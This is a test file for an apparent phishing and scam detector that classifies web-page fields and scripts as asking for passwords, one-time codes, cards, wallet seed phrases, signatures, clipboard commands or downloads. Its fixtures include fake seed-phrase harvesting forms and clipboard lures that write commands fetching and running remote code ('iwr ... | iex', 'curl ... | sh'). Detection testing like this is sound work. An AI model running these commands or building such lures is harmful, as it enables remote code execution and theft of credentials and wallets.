import { describe, expect, test } from 'bun:test'
import { siteOf } from '../../../src/trust/address/site.ts'
import { asksOf } from '../../../src/trust/intents/asks.ts'
import { pageOf } from '../page/read-any-page.ts'

const SITE = siteOf(new URL('https://shop.example/'))
const asks = (html: string) => asksOf(pageOf(html, SITE.url.href), SITE)
const intents = (html: string) => [...asks(`<!doctype html>${html}`).intents]
const repeat = (count: number, html: (index: number) => string) =>
  Array.from({ length: count }, (_, index) => html(index + 1)).join('')

describe('a password is asked for', () => {
  test.each([
    ['by its type', '<input type=password>'],
    ['by its type in capitals', '<input TYPE=" PASSWORD ">'],
    ['in text that is shown as dots', '<input style="-webkit-text-security:disc">'],
    ['by autocomplete', '<input autocomplete="section-a current-password">'],
    ['by name', '<input name=userPassword>'],
    ['by an unknown type', '<input type=secret name=passwd>'],
    ['in a text area', '<textarea placeholder="Your password"></textarea>'],
    ['in an element that can be edited', '<div contenteditable aria-label=Password></div>'],
    ['in the text before the field', '<p>Passwort:</p><input name=x1>'],
    ['in Japanese', '<label for=a>パスワード</label><input id=a>'],
    ['in Japanese by a bank', '<td>暗証番号</td><td><input type=tel></td>'],
    ['in French', '<input placeholder="Mot de passe">'],
    ['in Spanish', '<input placeholder="Contraseña">'],
    ['in Chinese', '<input placeholder="请输入密码">'],
    ['in Russian', '<input placeholder="Пароль">'],
    ['as a PIN', '<input placeholder=PIN maxlength=6>'],
    ['as a PIN, by the text before the field', '<p>PIN</p><input name=x3>'],
  ])('%s', (_, html) => {
    expect(intents(html)).toEqual(['password'])
  })

  test.each([
    ['a search field beside a link', '<a href=/f>Forgot password?</a><input name=q>'],
    ['a selector in a script', `<script>$('input[type="password"]').hide()</script>`],
    ['a passport number', '<input name=passportNumber placeholder="Passport number">'],
    ['a postal code', '<input name=pincode placeholder="PIN code" maxlength=6>'],
    ['a note to pin', '<label>Pin to the top <input name=note></label>'],
    ['a hidden field', '<input type=hidden name=password>'],
    ['a checkbox', '<label><input type=checkbox> Show password</label>'],
    ['an article', '<p>Choose a long password and tell nobody.</p><a href=/x>Passwords</a>'],
    ['a text in a data block', '<script type="application/json">{"type":"password"}</script>'],
  ])('but not by %s', (_, html) => {
    expect(intents(html)).toEqual([])
  })
})

describe('a code for one time is asked for', () => {
  test.each([
    ['by autocomplete', '<input autocomplete=one-time-code>'],
    ['by name', '<input name=otp_code>'],
    ['by label', '<label>Verification code <input></label>'],
    ['by boxes of one character', repeat(6, (i) => `<input name=d${i} maxlength=1>`)],
    ['in German', '<input placeholder="Bestätigungscode">'],
    ['as a TAN', '<input placeholder="TAN eingeben">'],
    ['in French', '<input placeholder="Code de validation">'],
    ['in Spanish', '<input placeholder="Código de verificación">'],
    ['in Japanese', '<input placeholder="認証コード">'],
    ['in Japanese, too', '<input placeholder="ワンタイムパスワード">'],
    ['in Chinese', '<input placeholder="短信验证码">'],
  ])('%s', (_, html) => {
    expect(intents(html)).toEqual(['one_time_code'])
  })

  test.each([
    ['letters in a picture', '<input name=captcha placeholder="Verification code in the picture">'],
    ['a postal code', '<input name=zip placeholder="Postal code">'],
    ['a coupon', '<input placeholder="Promo access code">'],
    ['a few boxes', repeat(3, () => '<input maxlength=1>')],
    ['a standing desk', '<input placeholder="Your standing order">'],
  ])('but not by %s', (_, html) => {
    expect(intents(html)).toEqual([])
  })
})

describe('a card is asked for', () => {
  test.each([
    ['by autocomplete', '<input autocomplete="billing cc-number">'],
    ['by name', '<input name=cardNumber>'],
    ['by its code', '<input name=cvv maxlength=4>'],
    ['by label', '<label>Card number<input></label>'],
    ['in German', '<input placeholder=Kartennummer>'],
    ['in Spanish', '<input placeholder="Número de tarjeta">'],
    ['in French', '<input placeholder="Numéro de carte">'],
    ['in Japanese', '<input placeholder="カード番号">'],
  ])('%s', (_, html) => {
    expect(intents(html)).toEqual(['card'])
  })

  test.each([
    ['a gift card', '<input placeholder="Gift card number">'],
    ['a library card', '<input name=card_number placeholder="Library card number">'],
    ['a name', '<input autocomplete=cc-name>'],
  ])('but not by %s', (_, html) => {
    expect(intents(html)).toEqual([])
  })
})

describe('the words of a wallet are asked for', () => {
  test.each([
    ['by label', '<label>Recovery phrase<textarea></textarea></label>'],
    ['by placeholder', '<input placeholder="Enter your 12-word secret phrase">'],
    ['by a private key', '<p>Connect your wallet by hand</p><input type=password placeholder="Private key">'],
    ['by a recovery key', '<h1>MetaMask</h1><input type=password placeholder="Recovery key">'],
    [
      'by a field for each word',
      `<h1>Import with your Seed Phrase</h1>${repeat(12, (i) => `<input placeholder="Word #${i}">`)}`,
    ],
    [
      'by numbers alone',
      `<h2>Write the 12 words recovery phrase</h2>${repeat(12, (i) => `<input placeholder="${i}-">`)}`,
    ],
    [
      'by numbered fields',
      `<h1>Secret Recovery Phrase</h1>${repeat(24, (i) => `<span>${i}.</span><input type=password>`)}`,
    ],
    [
      'by the one text area of a short page',
      '<p>Restore your wallet with your seed phrase.</p><hr><p>Words</p><textarea></textarea>',
    ],
    [
      'by a phrase of a wallet',
      '<title>Import Wallet</title><textarea name=phrase placeholder=Phrase></textarea>',
    ],
    ...['private-key', 'privateKey', 'seed_phrase', 'wallet[private_key]'].map((id) => [
      `by ${id} for its program, and a message for its visitor`,
      `<input id="${id}" placeholder="Type your message here"><button>Connect Wallet</button>`,
    ]),
    ['in Japanese', '<textarea placeholder="復元フレーズを入力"></textarea>'],
    ['in German', '<textarea placeholder="Wiederherstellungsphrase"></textarea>'],
    ['in Chinese', '<textarea placeholder="输入助记词"></textarea>'],
  ])('%s', (_, html) => {
    expect(intents(html)).toContain('seed_phrase')
  })

  test.each([
    [
      'the letters of a picture, asked on a page that speaks of wallets [T13]',
      '<title>Import Wallet</title><label>Captcha<input name=phrase></label>',
    ],
    ['a message beside a wallet', '<input id=message placeholder="Message"><button>Connect Wallet</button>'],
    ['comments below an article', '<p>Never share your seed phrase.</p><textarea name=comment></textarea>'],
    [
      'a form below a long article',
      `<p>${'Your seed phrase. '.repeat(300)}</p><h2>Ask us</h2><textarea name=text></textarea>`,
    ],
    [
      'a certificate',
      '<label>Certificate<textarea></textarea></label><label>Private key<textarea></textarea></label>',
    ],
    ['an object store', '<input placeholder="Access key"><input placeholder="Secret key">'],
    ['a phrase to translate', '<h1>Translate</h1><textarea placeholder=Phrase></textarea>'],
    ['a second factor', '<label>Recovery key<input></label>'],
    ['a backup', '<label>Backup key<input></label>'],
    ['a quiz', repeat(12, (i) => `<input placeholder="Word ${i}">`)],
  ])('but not by %s', (_, html) => {
    expect(intents(html)).toEqual([])
  })
})

describe('a wallet, a clipboard and a download are asked for', () => {
  test.each([
    [
      'a signature',
      ['wallet'],
      '<script>await window.ethereum.request({method:"eth_requestAccounts"});ethereum.request({method:"eth_signTypedData_v4"})</script>',
    ],
    [
      'no signature of a page that only connects',
      [],
      '<script>window.ethereum.request({method:"eth_chainId"})</script>',
    ],
    [
      'a command for the clipboard',
      ['clipboard'],
      '<script>navigator.clipboard.writeText("powershell -w hidden iwr https://x.example/a|iex")</script>',
    ],
    [
      'a command in an attribute',
      ['clipboard'],
      '<button data-clipboard-text="curl -sSf https://x.example/i | sh">Copy</button>',
    ],
    ['no command, but a link to copy', [], '<script>navigator.clipboard.writeText(location.href)</script>'],
    [
      'a command that is only shown',
      [],
      '<pre>curl -sSf https://x.example/i | sh</pre><script>navigator.clipboard.writeText(pre.innerText)</script>',
    ],
    ...String.raw`\x3cscript src=/a.js \u003cscript src=/a.js %3cscript src=/a.js`
      .split(/(?<=js) /)
      .map(
        (escaped) =>
          [
            `no command where ${escaped.slice(0, -9)} begins a script`,
            [],
            `<script>var head = '${escaped}'; navigator.clipboard.writeText(location.href)</script>`,
          ] as const,
      ),
    [
      'a command in code',
      ['clipboard'],
      '<script>var run = "cscript evil.js"; navigator.clipboard.writeText(run)</script>',
    ],
    ['a program', ['download'], '<a href="/setup%2Dx64.EXE?v=1">Download</a>'],
    ['a document', [], '<a href="/report.pdf">Download</a>'],
    ['a page whose name only ends so', [], '<a href="https://example.com">Home</a>'],
  ])('%s', (_, expected, html) => {
    expect(intents(html)).toEqual(expected as never[])
  })
})

test('each secret field is given once, in the order of the page', () => {
  const { secretFields } = asks(
    '<input type=password name=a><input name=b><input name=cvc><input autocomplete=one-time-code>',
  )
  expect(secretFields.map(({ intent, field }) => [intent, field.name])).toEqual([
    ['password', 'a'],
    ['card', 'cvc'],
    ['one_time_code', ''],
  ])
})
